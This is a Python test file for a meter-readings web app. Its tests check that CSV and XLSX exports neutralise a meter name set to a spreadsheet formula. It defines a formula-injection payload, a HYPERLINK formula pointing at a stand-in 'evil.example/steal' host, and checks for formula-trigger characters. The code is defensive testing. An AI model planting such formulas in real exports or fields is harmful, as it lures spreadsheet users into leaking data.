"""A meter renamed to a spreadsheet formula is exported as text, never as a live formula (CSV and XLSX)."""

from __future__ import annotations

import csv
import io

from nicegui.testing import User
from openpyxl import load_workbook
from sqlmodel import Session

from models import User as Resident
from services.core.db import make_engine
from services.core.settings import Settings
from services.residents import subscriber
from tests.readings_data import seed
from tests.ui.helpers import login, open_readings_page

FORMULA = '=HYPERLINK("http://evil.example/steal","Нажмите")'


async def open_renamed(user: User, app_env: Settings) -> None:
    engine = make_engine(app_env.database_url)
    seeded = seed(engine)
    with Session(engine) as session:
        resident = session.get(Resident, seeded.user_id)
        assert resident is not None
        subscriber.rename_meter(session=session, user=resident, meter_id=seeded.meter_id, name=FORMULA)
        session.commit()
    engine.dispose()
    await login(user, seeded.email)
    await open_readings_page(user)
    with user.client:
        for element in user.find(marker='period').elements:
            element.value = '03.2026'  # the month of the seeded data
    user.find(marker='build').click()
    await user.should_see('март 2026')
    await user.should_see(marker='export-csv')  # the chart is built: its download buttons are there


async def test_the_xlsx_keeps_a_formula_like_meter_name_as_a_text_cell(user: User, app_env: Settings) -> None:
    await open_renamed(user, app_env)
    user.find(marker='export-xlsx').click()
    sheet = load_workbook(io.BytesIO((await user.download.next()).content)).active
    assert sheet is not None
    meter = sheet['B1']
    assert str(meter.value).startswith(FORMULA) and meter.data_type == 's' and meter.quotePrefix
    first = next(c.row for c in sheet['A'] if c.value == 'Интервал') + 1
    energy = [row[4] for row in sheet.iter_rows(min_row=first)]  # «Всего» of each day of March
    assert all(c.data_type == 'n' for c in energy) and sum(c.value for c in energy) > 100  # numbers stay numbers
    assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == 'f']


async def test_the_csv_prefixes_a_formula_like_meter_name_with_an_apostrophe(user: User, app_env: Settings) -> None:
    await open_renamed(user, app_env)
    user.find(marker='export-csv').click()
    text = (await user.download.next()).content.decode('utf-8-sig')
    rows = list(csv.reader(io.StringIO(text), delimiter=';'))
    assert rows[0][0] == 'Прибор учёта' and rows[0][1].startswith("'" + FORMULA)
    assert not [cell for row in rows for cell in row if cell[:1] in ('=', '+', '@', '\t', '\r')]
